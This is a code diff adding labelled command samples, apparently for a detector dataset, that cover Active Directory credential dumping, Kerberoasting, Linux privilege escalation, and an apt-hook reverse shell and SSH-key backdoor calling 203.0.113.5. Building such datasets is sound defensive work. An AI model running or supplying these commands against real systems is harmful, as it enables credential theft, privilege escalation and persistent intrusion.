@@ -136,3 +136,55 @@ convert poc.svg poc.png
 msfdb status
 systemctl start neo4j
 ''')
+add(M, "credential_access", "Post Exploitation: Impacket / Kerberos / ldapsearch", r'''
+impacket-secretsdump corp.local/alice@198.51.100.50
+impacket-secretsdump -ntds ndts.dit -system system -hashes lmhash:nthash LOCAL -output nt-hash
+impacket-secretsdump -sam SAM -security SECURITY -system SYSTEM LOCAL
+impacket-GetNPUsers corp.local/alice:Passw0rd! -request -format hashcat -outputfile asrep.txt
+impacket-GetNPUsers corp.local/ -usersfile users.txt -format john -outputfile asrep.txt
+impacket-GetUserSPNs corp.local/alice:Passw0rd! -outputfile kerberoast.txt
+impacket-getTGT corp.local/alice:Passw0rd!
+./kerbrute -domain corp.local -users users.txt -passwords pass.txt -outputfile found.txt
+ldapsearch -x -h 198.51.100.50 -D "alice" -b "dc=corp,dc=local" "(ms-MCS-AdmPwd=*)" ms-MCS-AdmPwd
+/tmp/tickey -i
+''', note=_OSCP)
+add(M, "privilege_escalation", "Post Exploitation: Linux", r'''
+find / -perm -4000 2>/dev/null | xargs ls -la
+find / -type f -user root -perm -4000 2>/dev/null
+find / -type f -a \( -perm -u+s -o -perm -g+s \) -exec ls -l {} \; 2> /dev/null
+sudo /usr/sbin/apache2 -f /etc/shadow
+env -i SHELLOPTS=xtrace PS4='$(chmod +s /bin/bash)' /usr/local/bin/backup
+function /usr/sbin/service { /bin/bash -p; }
+sudo LD_PRELOAD=/tmp/shell.so /usr/bin/find
+sudo LD_LIBRARY_PATH=/tmp/libcrypt.so.1 /usr/sbin/apache2
+./logrotten -p ./payloadfile /tmp/log/pwnme.log
+./logrotten -p ./payloadfile -c -s 4 /tmp/log/pwnme.log
+/usr/bin/php7.2 -r "pcntl_exec('/bin/bash', ['-p']);"
+touch ./--checkpoint=1
+touch -- '--checkpoint-action=exec=sh shell.sh'
+''', note=_OSCP)
+add(M, "credential_access", "Post Exploitation: Linux (find / grep for passwords)", r'''
+find ./ -type f -exec grep --color=always -i -I 'password' {} \;
+grep -R db_passwd
+grep -roiE "password.{20}"
+grep -oiE "password.{20}" /etc/*.conf
+''')
+add(M, "persistence", "Post Exploitation: Linux (APT / aria2c)", r'''
+echo 'apt::Update::Pre-Invoke {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"};' > /etc/apt/apt.conf.d/99backdoor
+aria2c -d /root/.ssh/ -o authorized_keys "http://203.0.113.5/authorized_keys" --allow-overwrite=true
+''', note=_OSCP)
+add("ordinary", None, "Post Exploitation: Linux (Basic Enumeration)", r'''
+id
+uname -a
+cat /etc/hosts
+cat /etc/fstab
+ss -tulpn
+ps -auxf
+ls -lahv
+ls -R /home
+ls -la /opt
+find / -cmin -60
+find / -amin -60
+grep default_ccache_name /etc/krb5.conf
+python ticket_converter.py ticket.kirbi ticket.ccache
+''')
